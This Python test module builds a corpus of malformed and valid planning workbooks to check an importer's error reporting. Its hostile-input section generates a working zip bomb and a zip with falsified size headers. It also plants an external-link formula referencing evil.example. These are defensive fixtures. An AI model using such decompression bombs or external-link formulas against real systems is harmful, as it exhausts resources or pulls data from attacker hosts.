"""A corpus of malformed (and tricky but valid) planning workbooks, built in code from the tiny workbook.

Each :class:`Case` is a file as a planner would upload it (``.xlsx`` bytes, or a ``.zip`` of
``<sheet>.csv`` files) plus what the importer must say about it: the issues it must report (sheet, Excel
row, column and a fragment of the reason), or ``valid=True`` with a check of what must be read. The
same cases drive the upload entry (``data.workbook.read_workbook_upload``), the command line
(``python -m data import``) and the optimizer's command line.
"""

from __future__ import annotations

import csv
import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

import openpyxl

from tests.conftest import TINY_SHEETS

Sheets = dict[str, str]

CORPUS_VERSION = 1


@dataclass(frozen=True)
class Expect:
    """One issue the importer must report: sheet, Excel row, column, and a regex found in the message."""

    sheet: str
    row: int | None
    column: str | None
    reason: str


@dataclass
class Case:
    """A corpus entry: a file name, its bytes, and the expected outcome."""

    name: str
    filename: str
    data: bytes
    expect: list[Expect] = field(default_factory=list)
    valid: bool = False
    check: Callable[[object], None] | None = None  # for valid cases: asserts on the Workbook read
    cli: bool = True  # whether ``python -m data import`` can take it (an .xlsx or a CSV folder)


# --- builders --------------------------------------------------------------------------------------

_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def _cell(text: str) -> object:
    """A CSV cell as Excel would hold it after typing: numbers as numbers, blanks empty."""
    if text == "":
        return None
    if _NUMBER.match(text):
        return float(text) if "." in text else int(text)
    return text


def xlsx_bytes(
    sheets: Sheets, hook: Callable[[openpyxl.Workbook], None] | None = None, typed: bool = True
) -> bytes:
    """An .xlsx with one sheet per CSV text; ``hook`` may edit the openpyxl book before saving."""
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, text in sheets.items():
        ws = book.create_sheet(name)
        for record in csv.reader(io.StringIO(text)):
            ws.append([_cell(c) if typed else (c or None) for c in record])
    if hook is not None:
        hook(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_zip_bytes(
    sheets: Sheets, encoding: str = "utf-8", extra: dict[str, bytes] | None = None
) -> bytes:
    """A .zip of ``<sheet>.csv`` files in ``encoding`` (``utf-8-sig`` for a BOM, ``gbk``, ...)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in sheets.items():
            archive.writestr(f"{name}.csv", text.encode(encoding))
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def patch_xlsx_xml(data: bytes, member: str, edit: Callable[[str], str]) -> bytes:
    """Rewrite one XML part of an .xlsx (to add what openpyxl cannot write, e.g. cached formula values)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == member:
                content = edit(content.decode("utf-8")).encode("utf-8")
            dst.writestr(info, content)
    return out.getvalue()


def _sheet_part(data: bytes, title: str) -> str:
    """The zip member holding the worksheet called ``title``."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return f"xl/worksheets/sheet{book.sheetnames.index(title) + 1}.xml"


def lying_zip(sheets: Sheets) -> bytes:
    """A .zip whose extra member declares 100 bytes but unpacks to 5 MB (sizes in headers lie)."""
    data = bytearray(csv_zip_bytes(sheets, extra={"big.csv": b"0" * 5_000_000}))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("big.csv")
    struct.pack_into("<I", data, info.header_offset + 22, 100)  # local header: uncompressed size
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(b"big.csv") + 1)
    struct.pack_into("<I", data, central + 24, 100)  # central directory: uncompressed size
    return bytes(data)


def zip_bomb() -> bytes:
    """A small .zip that declares > 200 MB when unpacked (one member, highly compressible)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open("budgets.csv", "w", force_zip64=True) as fh,
    ):
        block = b"0" * (1 << 20)
        for _ in range(210):
            fh.write(block)
    return out.getvalue()


def with_sheets(**changes: str | None) -> Sheets:
    """The tiny workbook's CSV texts with some sheets replaced (``None`` removes a sheet)."""
    sheets = dict(TINY_SHEETS)
    for name, text in changes.items():
        if text is None:
            sheets.pop(name)
        else:
            sheets[name] = text
    return sheets


def replaced(sheet: str, old: str, new: str) -> Sheets:
    """The tiny workbook with one text replacement in one sheet (the replacement must happen)."""
    text = TINY_SHEETS[sheet]
    assert old in text, (sheet, old)
    return with_sheets(**{sheet: text.replace(old, new, 1)})


# --- the corpus ------------------------------------------------------------------------------------


def _invalid(name: str, sheets: Sheets, *expect: Expect, as_zip: bool = False) -> Case:
    if as_zip:
        return Case(name, f"{name}.zip", csv_zip_bytes(sheets), list(expect))
    return Case(name, f"{name}.xlsx", xlsx_bytes(sheets), list(expect))


def _file(name: str, filename: str, data: bytes, reason: str, cli: bool = True) -> Case:
    return Case(name, filename, data, [Expect("(file)", None, None, reason)], cli=cli)


def _check_amount(expected: float) -> Callable[[object], None]:
    def check(wb: object) -> None:
        amounts = dict(zip(wb.budgets["fund_line"], wb.budgets["amount"], strict=True))  # type: ignore[attr-defined]
        assert amounts["industry"] == expected, amounts

    return check


def _check_names(*names: str) -> Callable[[object], None]:
    def check(wb: object) -> None:
        have = set(wb.candidates["name"])  # type: ignore[attr-defined]
        assert set(names) <= have, have

    return check


def build_corpus() -> list[Case]:
    """Every case, freshly built (about 60; a few MB in total)."""
    T = TINY_SHEETS
    E = Expect
    cases: list[Case] = [
        # missing sheets and columns
        _invalid(
            "missing_budgets_sheet", with_sheets(budgets=None), E("budgets", None, None, "missing")
        ),
        _invalid(
            "missing_candidates_sheet",
            with_sheets(candidates=None),
            E("candidates", None, None, "missing"),
        ),
        _invalid(
            "missing_options_sheet_csv",
            with_sheets(options=None),
            E("options", None, None, "missing"),
            as_zip=True,
        ),
        _invalid(
            "missing_amount_column",
            with_sheets(budgets="fund_line,pooled\nindustry,Y\nprojects,N\n"),
            E("budgets", 1, "amount", "missing"),
        ),
        _invalid(
            "missing_probability_column",
            with_sheets(options="candidate_id,option,fund_line,cost\nE1,coaching,industry,10\n"),
            E("options", 1, "probability", "missing"),
        ),
        _invalid(
            "duplicate_header",
            with_sheets(budgets="fund_line,amount,amount\nindustry,100,1\nprojects,50,2\n"),
            E("budgets", 1, "amount", "twice"),
        ),
        # wrong types, blanks
        _invalid(
            "text_in_amount",
            replaced("budgets", "industry,100", "industry,lots"),
            E("budgets", 2, "amount", "number.*lots"),
        ),
        _invalid(
            "text_in_resource_use",
            replaced("options", "40,1,", "40,many,"),
            E("options", 4, "staff_days", "number.*many"),
        ),
        _invalid(
            "excel_error_in_number",
            replaced("budgets", "industry,100", "industry,#DIV/0!"),
            E("budgets", 2, "amount", "#DIV/0!"),
        ),
        _invalid(
            "infinity_text",
            replaced("resources", "staff_days,20", "staff_days,inf"),
            E("resources", 2, "capacity", "number"),
        ),
        _invalid(
            "blank_base_probability",
            replaced("candidates", "0.3,30", ",30"),
            E("candidates", 2, "base_probability", "blank"),
        ),
        _invalid(
            "blank_candidate_id",
            replaced("candidates", "P1,临港", ",临港"),
            E("candidates", 4, "candidate_id", "blank"),
        ),
        _invalid(
            "pooled_not_yes_no",
            replaced("budgets", "100,Y", "100,maybe"),
            E("budgets", 2, "pooled", "Y or N"),
        ),
        _invalid(
            "kind_unknown",
            replaced("candidates", "enterprise,环翠区", "company,环翠区"),
            E("candidates", 2, "kind", "project or enterprise"),
        ),
        # out of range
        _invalid(
            "base_probability_above_1",
            replaced("candidates", "0.3,30", "1.5,30"),
            E("candidates", 2, "base_probability", "between 0 and 1"),
        ),
        _invalid(
            "probability_percent_above_1",
            replaced("candidates", "0.3,30", "120%,30"),
            E("candidates", 2, "base_probability", "between 0 and 1"),
        ),
        _invalid(
            "option_probability_negative",
            replaced("options", "0.6,industry", "-0.1,industry"),
            E("options", 2, "probability", "between 0 and 1"),
        ),
        _invalid(
            "negative_budget",
            replaced("budgets", "industry,100", "industry,-100"),
            E("budgets", 2, "amount", "0 or more"),
        ),
        _invalid(
            "negative_cost",
            replaced("options", "industry,40", "industry,-40"),
            E("options", 4, "cost", "0 or more"),
        ),
        _invalid(
            "negative_award",
            replaced("candidates", "30,industry", "-30,industry"),
            E("candidates", 2, "award", "0 or more"),
        ),
        _invalid(
            "negative_resource_use",
            replaced("options", "40,1,", "40,-1,"),
            E("options", 4, "staff_days", "0 or more"),
        ),
        _invalid(
            "zero_goal",
            replaced("targets", "new_srdi,2", "new_srdi,0"),
            E("targets", 2, "goal", "greater than 0"),
        ),
        _invalid(
            "zero_contribution",
            replaced("contributions", "P1,starts,1", "P1,starts,0"),
            E("contributions", 4, "value", "greater than 0"),
        ),
        _invalid(
            "floor_share_above_1",
            replaced("floors", "0.2", "1.2"),
            E("floors", 2, "min_share", "between 0 and 1"),
        ),
        _invalid(
            "pool_share_2",
            replaced("settings", "pool_share,0.2", "pool_share,2"),
            E("settings", 2, "value", "pool_share"),
        ),
        _invalid(
            "prudence_text",
            replaced("settings", "award_prudence,1", "award_prudence,abc"),
            E("settings", 3, "value", "award_prudence"),
        ),
        # duplicates
        _invalid(
            "duplicate_fund_line",
            replaced("budgets", "projects,50", "industry,50"),
            E("budgets", 3, "fund_line", "duplicate"),
        ),
        _invalid(
            "duplicate_candidate",
            replaced("candidates", "P1,临港", "E1,临港"),
            E("candidates", 4, "candidate_id", "duplicate"),
        ),
        _invalid(
            "duplicate_option",
            replaced("options", "rd_subsidy", "coaching"),
            E("options", 4, "option", "duplicate"),
        ),
        _invalid(
            "duplicate_resource",
            with_sheets(resources="resource,capacity\nstaff_days,20\nstaff_days,3\n"),
            E("resources", 3, "resource", "duplicate"),
        ),
        _invalid(
            "duplicate_lock",
            with_sheets(locks="candidate_id,option\nE2,coaching\nE2,none\n"),
            E("locks", 3, "candidate_id", "duplicate"),
        ),
        _invalid(
            "duplicate_setting",
            with_sheets(settings="key,value\npool_share,0.1\npool_share,0.2\n"),
            E("settings", 3, "key", "duplicate"),
        ),
        # unknown references
        _invalid(
            "contribution_unknown_candidate",
            replaced("contributions", "P1,starts", "P9,starts"),
            E("contributions", 4, "candidate_id", "unknown candidate"),
        ),
        _invalid(
            "contribution_unknown_target",
            replaced("contributions", "P1,starts", "P1,stars"),
            E("contributions", 4, "target", "unknown target"),
        ),
        _invalid(
            "option_unknown_candidate",
            replaced("options", "P1,assisted", "P7,assisted"),
            E("options", 5, "candidate_id", "unknown candidate"),
        ),
        _invalid(
            "option_unknown_fund_line",
            replaced("options", "0.7,industry", "0.7,innovation"),
            E("options", 4, "fund_line", "unknown fund line"),
        ),
        _invalid(
            "award_unknown_fund_line",
            replaced("candidates", "30,industry", "30,nowhere"),
            E("candidates", 2, "award_line", "unknown fund line"),
        ),
        _invalid(
            "award_without_line",
            replaced("candidates", "30,industry", "30,"),
            E("candidates", 2, "award_line", "fund line"),
        ),
        _invalid(
            "cost_without_fund_line",
            replaced("options", "0.7,industry,40", "0.7,,40"),
            E("options", 4, "fund_line", "fund line"),
        ),
        _invalid(
            "resource_named_like_fund_line",
            with_sheets(resources="resource,capacity\nindustry,20\n"),
            E("resources", 2, "resource", "also a fund line"),
        ),
        _invalid(
            "lock_unknown_candidate",
            with_sheets(locks="candidate_id,option\nX9,coaching\n"),
            E("locks", 2, "candidate_id", "unknown candidate"),
        ),
        _invalid(
            "lock_unknown_option",
            with_sheets(locks="candidate_id,option\nE2,teleport\n"),
            E("locks", 2, "option", "no option 'teleport'"),
        ),
        _invalid(
            "floor_unknown_district",
            with_sheets(floors="district,min_share\n南极区,0.2\n"),
            E("floors", 2, "district", "南极区"),
        ),
        _invalid(
            "option_called_none",
            replaced("options", "rd_subsidy", "None"),
            E("options", 4, "option", "reserved"),
        ),
        _invalid(
            "unknown_candidate_csv_zip",
            replaced("contributions", "P1,starts", "P9,starts"),
            E("contributions", 4, "candidate_id", "unknown candidate"),
            as_zip=True,
        ),
        # several problems at once: every one is reported
        _invalid(
            "many_problems_at_once",
            with_sheets(
                budgets="fund_line,amount,pooled\nindustry,-1,Y\nprojects,abc,N\n",
                targets=T["targets"].replace("new_srdi,2", "new_srdi,0"),
            ),
            E("budgets", 2, "amount", "0 or more"),
            E("budgets", 3, "amount", "abc"),
            E("targets", 2, "goal", "greater than 0"),
        ),
    ]

    # spreadsheet features
    def merged(book: openpyxl.Workbook) -> None:
        book["candidates"].merge_cells(
            "D3:D4"
        )  # 文登区 typed once over two rows: the second is blank

    def formula_without_value(book: openpyxl.Workbook) -> None:
        book["budgets"]["B2"] = "=40+60"

    cases += [
        Case(
            "merged_cells",
            "merged_cells.xlsx",
            xlsx_bytes(T, merged),
            [E("candidates", 4, "district", "blank")],
        ),
        Case(
            "formula_without_saved_value",
            "formula.xlsx",
            xlsx_bytes(T, formula_without_value),
            [E("budgets", 2, "amount", "formula")],
        ),
    ]
    plain = xlsx_bytes(T)
    budgets_part = _sheet_part(plain, "budgets")
    cached = patch_xlsx_xml(
        plain, budgets_part, lambda x: x.replace("<v>100</v>", "<f>40+60</f><v>100</v>", 1)
    )
    external = patch_xlsx_xml(
        plain,
        budgets_part,
        lambda x: x.replace(
            "<v>100</v>", "<f>'http://evil.example/[x.xlsx]s'!A1*0+100</f><v>100</v>", 1
        ),
    )
    cases += [
        # a formula with its saved value is read as that value, never evaluated
        Case(
            "formula_with_saved_value",
            "cached.xlsx",
            cached,
            valid=True,
            check=_check_amount(100.0),
        ),
        Case(
            "external_link_formula",
            "external.xlsx",
            external,
            valid=True,
            check=_check_amount(100.0),
        ),
    ]

    # valid but tricky: must import correctly
    cases += [
        Case("tiny_xlsx", "tiny.xlsx", plain, valid=True, check=_check_amount(100.0)),
        Case("tiny_csv_zip", "tiny.zip", csv_zip_bytes(T), valid=True, check=_check_amount(100.0)),
        Case(
            "gbk_csv",
            "gbk.zip",
            csv_zip_bytes(T, "gbk"),
            valid=True,
            check=_check_names("威海甲公司", "临港项目"),
        ),
        Case(
            "bom_csv",
            "bom.zip",
            csv_zip_bytes(T, "utf-8-sig"),
            valid=True,
            check=_check_names("威海甲公司"),
        ),
        Case(
            "chinese_and_emoji_names",
            "emoji.xlsx",
            xlsx_bytes(replaced("candidates", "威海甲公司", "威海🚀甲公司 (碳纤维)")),
            valid=True,
            check=_check_names("威海🚀甲公司 (碳纤维)"),
        ),
        Case(
            "thousands_separator_text",
            "thousands.xlsx",
            xlsx_bytes(replaced("budgets", "industry,100", 'industry,"1,234.5"')),
            valid=True,
            check=_check_amount(1234.5),
        ),
        Case(
            "numbers_as_text_everywhere",
            "text_numbers.xlsx",
            xlsx_bytes(T, typed=False),
            valid=True,
            check=_check_amount(100.0),
        ),
        Case(
            "full_width_digits",
            "fullwidth.zip",
            csv_zip_bytes(replaced("budgets", "industry,100", "industry,１００")),
            valid=True,
            check=_check_amount(100.0),
        ),
        Case(
            "extra_sheet_and_columns",
            "extra.xlsx",
            xlsx_bytes(with_sheets(notes="anything,at,all\n1,2,3\n")),
            valid=True,
            check=lambda wb: None,
        ),
        Case(
            # dearer and weaker than another option, and weaker than no support at all: odd, but legal
            "options_cheaper_but_weaker",
            "weaker.xlsx",
            xlsx_bytes(
                with_sheets(
                    options=T["options"]
                    + "E1,cheap_but_useless,0.1,industry,1,0,\nE1,dear_and_weaker,0.55,industry,30,0,\n"
                )
            ),
            valid=True,
            check=lambda wb: None,
        ),
    ]

    # not a workbook at all, damaged, hostile
    cases += [
        _file("empty_xlsx_file", "empty.xlsx", b"", "not a valid .xlsx"),
        _file(
            "png_named_xlsx", "picture.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(200), "not a valid .xlsx"
        ),
        _file(
            "text_named_xlsx", "notes.xlsx", "预算,金额\n工业,100\n".encode(), "not a valid .xlsx"
        ),
        _file(
            "old_xls_or_encrypted",
            "old.xlsx",
            bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
            "not a valid .xlsx",
        ),
        _file("truncated_xlsx", "cut.xlsx", plain[: len(plain) // 2], "not a valid .xlsx"),
        _file("zip_of_csv_named_xlsx", "renamed.xlsx", csv_zip_bytes(T), "not a valid .xlsx"),
        _file("empty_zip", "empty.zip", b"PK\x05\x06" + bytes(18), "no <sheet>.csv", cli=False),
        _file(
            "zip_without_csv",
            "docs.zip",
            csv_zip_bytes({}, extra={"readme.txt": b"hi"}),
            "no <sheet>.csv",
            cli=False,
        ),
        _file("wrong_suffix", "budgets.pdf", b"%PDF-1.7\n", "upload an .xlsx", cli=False),
        _file(
            "huge_file",
            "huge.xlsx",
            b"PK\x03\x04" + bytes(51 * 1024 * 1024),
            "larger than",
            cli=False,
        ),
        _file("zip_bomb", "bomb.zip", zip_bomb(), "more than 200 MB", cli=False),
        _file("lying_zip_sizes", "lying.zip", lying_zip(T), "", cli=False),
        Case(
            "empty_csv_file",
            "empty_sheet.zip",
            csv_zip_bytes(with_sheets(budgets="")),
            [E("budgets", 1, "fund_line", "missing"), E("budgets", 1, "amount", "missing")],
        ),
        Case(
            "binary_garbage_csv",
            "garbage.zip",
            csv_zip_bytes(
                with_sheets(targets=None),
                extra={"targets.csv": b"\x81\x30" + bytes(range(256)) * 8},
            ),
            [E("targets", None, None, "")],
        ),
    ]
    return cases


def write_for_cli(case: Case, folder) -> object:
    """The case as ``python -m data import`` takes it: the .xlsx file, or the zip unpacked to a folder."""
    from pathlib import Path

    folder = Path(folder)
    if case.filename.endswith(".zip"):
        target = folder / case.name
        target.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(io.BytesIO(case.data)) as archive:
            for info in archive.infolist():
                (target / Path(info.filename).name).write_bytes(archive.read(info))
        return target
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / case.filename
    path.write_bytes(case.data)
    return path
